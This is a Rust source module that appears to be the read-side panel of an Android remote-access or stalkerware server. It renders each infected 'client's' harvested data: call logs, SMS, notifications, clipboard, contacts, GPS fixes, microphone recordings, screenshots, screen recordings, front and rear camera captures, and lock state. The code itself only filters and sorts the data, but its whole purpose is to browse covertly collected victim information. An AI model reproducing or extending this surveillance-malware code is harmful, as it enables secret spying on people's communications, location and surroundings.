//! Read-side page dispatch: each page is a pure function over an immutable
//! per-client snapshot, keyed by the closed [`Page`] enum. Nothing in here
//! mutates state.

use serde::Serialize;
use serde_json::Value;

use crate::types::{
    CallEntry, ClientData, ClientRecord, ClipboardEntry, DownloadRecord, LocationFix, MediaKind,
    NotificationEntry, SmsEntry,
};

/// Selector naming which view of a client's stored data to return.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Page {
    Calls,
    Sms,
    Notifications,
    Wifi,
    Contacts,
    Permissions,
    Clipboard,
    Apps,
    Files,
    Downloads,
    Microphone,
    Gps,
    Info,
    LockDevice,
    Screenshot,
    ScreenRecord,
    RearCam,
    FrontCam,
}

impl Page {
    pub fn from_name(name: &str) -> Option<Self> {
        match name {
            "calls" => Some(Page::Calls),
            "sms" => Some(Page::Sms),
            "notifications" => Some(Page::Notifications),
            "wifi" => Some(Page::Wifi),
            "contacts" => Some(Page::Contacts),
            "permissions" => Some(Page::Permissions),
            "clipboard" => Some(Page::Clipboard),
            "apps" => Some(Page::Apps),
            "files" => Some(Page::Files),
            "downloads" => Some(Page::Downloads),
            "microphone" => Some(Page::Microphone),
            "gps" => Some(Page::Gps),
            "info" => Some(Page::Info),
            "lockdevice" => Some(Page::LockDevice),
            "screenshot" => Some(Page::Screenshot),
            "screenrecord" => Some(Page::ScreenRecord),
            "rearcam" => Some(Page::RearCam),
            "frontcam" => Some(Page::FrontCam),
            _ => None,
        }
    }
}

/// One rendered, read-only view of a client's stored data.
#[derive(Debug, Clone, Serialize, PartialEq)]
#[serde(untagged)]
pub enum PageView {
    Calls(Vec<CallEntry>),
    Sms(Vec<SmsEntry>),
    Notifications(Vec<NotificationEntry>),
    Clipboard(Vec<ClipboardEntry>),
    Locations(Vec<LocationFix>),
    Downloads(Vec<DownloadRecord>),
    Wifi { now: Value, log: Value },
    Info(ClientRecord),
    Raw(Value),
}

pub fn render(
    page: Page,
    record: &ClientRecord,
    data: &ClientData,
    filter: Option<&str>,
) -> PageView {
    match page {
        Page::Calls => PageView::Calls(calls(data, filter)),
        Page::Sms => PageView::Sms(sms(data, filter)),
        Page::Notifications => PageView::Notifications(notifications(data, filter)),
        Page::Wifi => PageView::Wifi {
            now: data.wifi_now.clone(),
            log: data.wifi_log.clone(),
        },
        Page::Contacts => PageView::Raw(data.contacts.clone()),
        Page::Permissions => PageView::Raw(data.permissions.clone()),
        Page::Clipboard => PageView::Clipboard(clipboard(data)),
        Page::Apps => PageView::Raw(data.apps.clone()),
        Page::Files => PageView::Raw(data.current_folder.clone()),
        Page::Downloads => PageView::Downloads(downloads(data, MediaKind::Download)),
        Page::Microphone => PageView::Downloads(downloads(data, MediaKind::VoiceRecording)),
        Page::Gps => PageView::Locations(data.locations.clone()),
        Page::Info => PageView::Info(record.clone()),
        Page::LockDevice => PageView::Raw(data.lock_state.clone()),
        Page::Screenshot => PageView::Downloads(downloads(data, MediaKind::Screenshot)),
        Page::ScreenRecord => PageView::Downloads(downloads(data, MediaKind::ScreenRecording)),
        Page::RearCam => PageView::Downloads(downloads(data, MediaKind::RearCamera)),
        Page::FrontCam => PageView::Downloads(downloads(data, MediaKind::FrontCamera)),
    }
}

fn calls(data: &ClientData, filter: Option<&str>) -> Vec<CallEntry> {
    let mut entries: Vec<CallEntry> = data
        .calls
        .iter()
        .filter(|call| suffix_matches(&call.phone_number, filter))
        .cloned()
        .collect();
    entries.sort_by(|a, b| b.logged_at.cmp(&a.logged_at));
    entries
}

fn sms(data: &ClientData, filter: Option<&str>) -> Vec<SmsEntry> {
    data.sms
        .iter()
        .filter(|sms| suffix_matches(&sms.address, filter))
        .cloned()
        .collect()
}

fn notifications(data: &ClientData, filter: Option<&str>) -> Vec<NotificationEntry> {
    let mut entries: Vec<NotificationEntry> = data
        .notifications
        .iter()
        .filter(|entry| filter.map_or(true, |app| entry.app_name == app))
        .cloned()
        .collect();
    entries.sort_by(|a, b| b.posted_at.cmp(&a.posted_at));
    entries
}

fn clipboard(data: &ClientData) -> Vec<ClipboardEntry> {
    let mut entries = data.clipboard.clone();
    entries.sort_by(|a, b| b.captured_at.cmp(&a.captured_at));
    entries
}

fn downloads(data: &ClientData, kind: MediaKind) -> Vec<DownloadRecord> {
    data.downloads
        .iter()
        .filter(|record| record.kind == kind)
        .cloned()
        .collect()
}

/// Suffix filters match on exact equality of the last six characters of both
/// sides; shorter values compare whole.
fn suffix_matches(stored: &str, filter: Option<&str>) -> bool {
    match filter {
        Some(filter) => last6(stored) == last6(filter),
        None => true,
    }
}

fn last6(s: &str) -> &str {
    s.char_indices()
        .rev()
        .nth(5)
        .map(|(idx, _)| &s[idx..])
        .unwrap_or(s)
}
